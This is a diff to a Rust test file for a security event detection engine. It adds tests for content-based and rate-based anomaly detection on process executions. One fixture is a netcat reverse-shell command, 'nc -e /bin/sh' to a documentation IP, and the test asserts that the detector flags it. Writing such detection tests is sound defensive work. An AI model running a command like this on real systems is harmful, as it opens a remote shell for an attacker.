@@ -10,8 +10,8 @@ use std::sync::Arc;
 use yagura_engine::{Detection, Detector, Place, RuleSet, Scratch};
 use yagura_event::{Event, GroupKey, Registry, Severity, Timestamp, Tree, build_event};
 use yagura_rules::source::{
-    CaseSource, CorrelationSource, DetectSource, MeasureSource, MethodSource, NewValueSource, QuerySource,
-    SequenceSource, StepSource,
+    AnomalySource, CaseSource, ContentAnomalySource, CorrelationSource, DetectSource, MeasureSource,
+    MethodSource, NewValueSource, QuerySource, SequenceSource, StepSource,
 };
 use yagura_rules::{Lists, Rule, RuleSource, compile};
 
@@ -276,6 +276,76 @@ fn the_first_case_that_holds_says_how_urgent_it_is() {
         [
             (Some(1), Severity::Medium, "r"),
             (Some(0), Severity::Critical, "Tools and a shell in a")
+        ]
+    );
+}
+
+#[test]
+fn a_text_that_is_like_none_before_is_told() {
+    let method = MethodSource::ContentAnomaly(ContentAnomalySource {
+        field: "process.command_line".to_owned(),
+        similarity: 60,
+        similar: 1,
+        learn_for: 60 * SECOND,
+        learn_matches: 1,
+        forget_after: 3_600 * SECOND,
+    });
+    let rule = rule(
+        "event.kind == \"process.exec\"",
+        &["container.image.name"],
+        method,
+    );
+    let mut detector = Detector::new(Place::Alone);
+    let events = [
+        exec(0, "backup", "a", &["--to", "/srv/backup/2026-11-01.tar"]),
+        exec(70, "backup", "b", &["--to", "/srv/backup/2026-11-02.tar"]),
+        exec(71, "nc", "b", &["-e", "/bin/sh", "203.0.113.5", "4444"]),
+        exec(72, "nc", "b", &["-e", "/bin/sh", "203.0.113.9", "4445"]),
+    ];
+    assert_eq!(told(&detections(&mut detector, &rule, &events)), [(71, 71, 1)]);
+    let mut node = Detector::new(Place::Node);
+    let passed = detections(&mut node, &rule, &events[2..3]);
+    assert_eq!(
+        passed[0].found.group.0[1],
+        (
+            "process.command_line".to_owned(),
+            "nc -e /bin/sh 203.0.113.5 4444".into()
+        )
+    );
+}
+
+#[test]
+fn more_than_usual_is_told_from_the_match_on_that_makes_it_so() {
+    const HOUR: i64 = 3_600;
+    let method = MethodSource::Anomaly(AnomalySource {
+        bucket: HOUR * SECOND,
+        history: 14 * 24 * HOUR * SECOND,
+        learn_for: 24 * HOUR * SECOND,
+        tolerance: 2,
+        min_count: 5,
+    });
+    let rule = rule("event.kind == \"process.exec\"", &["container.id"], method);
+    let mut detector = Detector::kept(Place::Node);
+    let mut found = Vec::new();
+    for hour in 0..40 {
+        // Two an hour; in the last eight.
+        let often = if hour == 39 { 8 } else { 2 };
+        for place in 0..often {
+            let event = exec(hour * HOUR + place, "ls", "a", &[]);
+            found.extend(detections(&mut detector, &rule, &[event]));
+        }
+        let kept = detector.take_changed();
+        detector = Detector::kept(Place::Node);
+        detector.restore([&*rule], kept);
+    }
+    let start = 39 * HOUR;
+    assert_eq!(
+        told(&found),
+        [
+            (start, start + 4, 5),
+            (start + 5, start + 5, 1),
+            (start + 6, start + 6, 1),
+            (start + 7, start + 7, 1)
         ]
     );
 }
